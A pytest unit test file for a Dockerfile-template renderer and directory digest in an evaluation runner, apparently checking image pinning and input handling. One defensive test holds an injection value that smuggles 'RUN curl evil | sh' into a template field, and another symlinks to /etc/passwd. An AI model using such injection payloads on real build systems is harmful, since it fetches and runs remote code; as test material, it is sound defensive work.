from pathlib import Path

import pytest

from runner.build.context import render_dockerfile, tree_digest
from runner.errors import InputError

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "images" / "python-eval.Dockerfile.j2"
BASE = "127.0.0.1:5000/evalrun/base@sha256:" + "b" * 64
VARS = {"base_image": BASE, "spec_name": "x", "inputs_digest": "c" * 64,
        "source_date_epoch": 1, "has_wheels": True}


def test_template_renders_with_pinned_base():
    text = render_dockerfile(TEMPLATE, VARS)
    assert text.startswith(f"FROM {BASE}\n")
    assert '"--no-index"' in text and '"--require-hashes"' in text


def test_undefined_variable_names_the_template_and_variable():
    with pytest.raises(InputError) as exc:
        render_dockerfile(TEMPLATE, {k: v for k, v in VARS.items() if k != "spec_name"})
    assert "spec_name" in exc.value.message
    assert exc.value.fields["file"] == str(TEMPLATE)
    assert exc.value.exit_code == 2


def test_from_by_tag_is_refused(tmp_path):
    t = tmp_path / "Dockerfile.j2"
    t.write_text("FROM {{ base_image }}\nFROM debian:bookworm AS other\n")
    with pytest.raises(InputError) as exc:
        render_dockerfile(t, VARS)
    assert "line 2" in exc.value.message and "not pinned by digest" in exc.value.message


def test_spec_values_are_quoted_not_spliced():
    hostile = 'x"\nRUN curl evil | sh\nLABEL y="'
    text = render_dockerfile(TEMPLATE, {**VARS, "spec_name": hostile})
    assert "\nRUN curl evil" not in text
    assert not any(line.startswith("RUN curl") for line in text.splitlines())


def test_tree_digest_changes_with_content_and_refuses_links(tmp_path):
    (tmp_path / "a.py").write_text("print(1)")
    d1 = tree_digest(tmp_path)
    (tmp_path / "a.py").write_text("print(2)")
    assert tree_digest(tmp_path) != d1
    (tmp_path / "link").symlink_to("/etc/passwd")
    with pytest.raises(InputError, match="symlink"):
        tree_digest(tmp_path)
